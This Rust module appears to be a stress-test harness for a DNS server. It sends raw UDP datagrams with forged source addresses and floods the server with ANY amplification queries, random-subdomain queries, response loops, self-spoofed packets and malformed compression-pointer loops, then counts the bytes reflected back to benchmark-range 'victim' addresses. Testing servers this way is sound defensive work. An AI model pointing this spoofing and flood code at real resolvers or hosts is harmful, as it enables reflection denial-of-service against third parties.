//! Datagrams from forged addresses, as many as one thread can send.

use super::{SERVER, Sent};
use socket2::{Domain, Protocol, Socket, Type};
use std::{
    net::{Ipv4Addr, SocketAddrV4, UdpSocket},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering::Relaxed},
    },
    thread,
    time::{Duration, Instant},
};

/// Whose addresses are abused: in one network, as a victim's are.
const VICTIMS: u8 = 16;
/// Packets between two looks at the clock.
const BURST: usize = 64;

/// A query with an OPT, as amplifiers are asked with one.
pub fn question(name: &[u8], rtype: u16) -> Vec<u8> {
    let mut packet = vec![0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1];
    packet.extend_from_slice(name);
    packet.extend_from_slice(&rtype.to_be_bytes());
    packet.extend_from_slice(&[0, 1]);
    packet.extend_from_slice(&[0, 0, 41, 16, 0, 0, 0, 0, 0, 0, 0]);
    packet
}

/// ANY, and the largest answer there is, for the victims.
pub fn any(until: Instant) -> Sent {
    let name = b"\x03big\x07example\x03org\0";
    let queries = [question(name, 255), question(name, 1)];
    flood(until, victim, |turn| queries[turn % 2].clone())
}

/// Another name with each query, as open resolvers pass them on: from all over.
pub fn subdomains(until: Instant) -> Sent {
    let from = |turn: usize| {
        let [_, _, high, low] = (turn as u32).wrapping_mul(0x9e37_79b9).to_be_bytes();
        SocketAddrV4::new(Ipv4Addr::new(198, 18, high | 1, low), 4_000)
    };
    flood(until, from, |turn| {
        let label =
            format!("{:010x}", (turn as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15) & 0xff_ffff_ffff);
        question(&[&[10][..], label.as_bytes(), b"\x07example\x03org\0"].concat(), 1)
    })
}

/// What servers that answer answers would send each other for ever.
pub fn responses(until: Instant) -> Sent {
    let mut packet = question(b"\x03www\x07example\x03org\0", 1);
    packet[2] |= 0x80;
    flood(until, victim, |_| packet.clone())
}

/// From the server itself.
pub fn own_address(until: Instant) -> Sent {
    let packet = question(b"\x03www\x07example\x03org\0", 1);
    flood(until, |_| SERVER, |_| packet.clone())
}

/// Pointers to themselves, in circles, and as many records of them as a packet holds.
pub fn pointers(until: Instant) -> Sent {
    let mut head = question(b"\xc0\x0c", 1);
    head.truncate(18);
    let mut many = question(b"\x03www\x07example\x03org\0", 1);
    many.truncate(33);
    many[10..12].copy_from_slice(&120_u16.to_be_bytes());
    (0..120).for_each(|_| many.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 0]));
    let mut circle = many.clone();
    circle[33..35].copy_from_slice(&[0xc0, 33]);
    let packets = [head, many, circle];
    flood(until, victim, |turn| packets[turn % 3].clone())
}

fn victim(turn: usize) -> SocketAddrV4 {
    SocketAddrV4::new(Ipv4Addr::new(198, 18, 77, 1 + (turn % usize::from(VICTIMS)) as u8), 4_000)
}

fn flood(
    until: Instant,
    from: impl Fn(usize) -> SocketAddrV4,
    packet: impl Fn(usize) -> Vec<u8>,
) -> Sent {
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP)).unwrap();
    raw.set_header_included_v4(true).unwrap();
    raw.set_send_buffer_size(4 << 20).unwrap();
    let (done, counting) = count();
    let (mut sent, mut turn) = (Sent::default(), 0);
    while Instant::now() < until {
        for _ in 0..BURST {
            let packet = packet(turn);
            if raw.send_to(&datagram(from(turn), &packet), &SERVER.into()).is_ok() {
                sent.packets += 1;
                sent.octets += packet.len() as u64;
            }
            turn += 1;
        }
    }
    thread::sleep(Duration::from_millis(300));
    done.store(true, Relaxed);
    sent.back = counting.join().unwrap();
    sent
}

/// Counts the octets that come to the victims.
fn count() -> (Arc<AtomicBool>, thread::JoinHandle<u64>) {
    let done = Arc::new(AtomicBool::new(false));
    let sockets: Vec<_> = (0..VICTIMS)
        .map(|one| {
            let socket = UdpSocket::bind(victim(usize::from(one))).unwrap();
            socket.set_nonblocking(true).unwrap();
            socket
        })
        .collect();
    let until = done.clone();
    let counting = thread::spawn(move || {
        let (mut octets, mut buffer) = (0, [0; 2_048]);
        while !until.load(Relaxed) {
            for socket in &sockets {
                while let Ok(length) = socket.recv(&mut buffer) {
                    octets += length as u64;
                }
            }
            thread::sleep(Duration::from_millis(1));
        }
        octets
    });
    (done, counting)
}

/// With headers of IPv4 and UDP; the system fills in length and checksum, and UDP needs none.
fn datagram(from: SocketAddrV4, octets: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    packet.extend_from_slice(&from.ip().octets());
    packet.extend_from_slice(&SERVER.ip().octets());
    for number in [from.port(), SERVER.port(), 8 + octets.len() as u16, 0] {
        packet.extend_from_slice(&number.to_be_bytes());
    }
    packet.extend_from_slice(octets);
    packet
}
